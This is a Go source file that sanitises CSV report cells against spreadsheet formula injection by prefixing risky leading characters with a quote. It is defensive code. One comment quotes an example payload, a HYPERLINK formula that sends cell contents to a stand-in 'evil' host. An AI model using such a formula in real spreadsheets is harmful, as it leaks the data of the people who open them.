package report

import (
	"encoding/csv"
	"strings"
)

// formulaStarts are the first characters that make a spreadsheet read a
// cell as a formula (or, for tab and carriage return, hide one behind
// white space), after OWASP's "CSV Injection".
const formulaStarts = "=+-@\t\r"

// safeCell returns a CSV cell that a spreadsheet shows as the text it
// is. Service and site names come from customers' contracts, item and
// claim IDs from their tickets and claims, reasons are free text: a site
// named =HYPERLINK("http://evil/?"&A1,"x") must not become a live
// formula in billing's spreadsheet. A cell that starts with =, +, -, @,
// tab or carriage return is prefixed with a single quote, which
// spreadsheets take as "text follows" and do not display, except a plain
// decimal number (-12.50, +3, 25): credits and percentages are numbers
// we write, and a negative one must stay a number.
func safeCell(s string) string {
	if s == "" || strings.IndexByte(formulaStarts, s[0]) < 0 || isDecimal(s) {
		return s
	}
	return "'" + s
}

// isDecimal reports whether s is an optional sign, digits and an optional
// fraction: [+-]d+(.d+)?, which no spreadsheet reads as a formula.
func isDecimal(s string) bool {
	if s != "" && (s[0] == '+' || s[0] == '-') {
		s = s[1:]
	}
	whole, frac, dot := strings.Cut(s, ".")
	return digits(whole) && (!dot || digits(frac))
}

// digits reports whether s is one or more ASCII digits.
func digits(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return s != ""
}

// writeRow writes one record with every cell through safeCell. Every CSV
// writer of this package writes its rows through it.
func writeRow(cw *csv.Writer, rec []string) error {
	safe := make([]string, len(rec))
	for i, s := range rec {
		safe[i] = safeCell(s)
	}
	return cw.Write(safe)
}
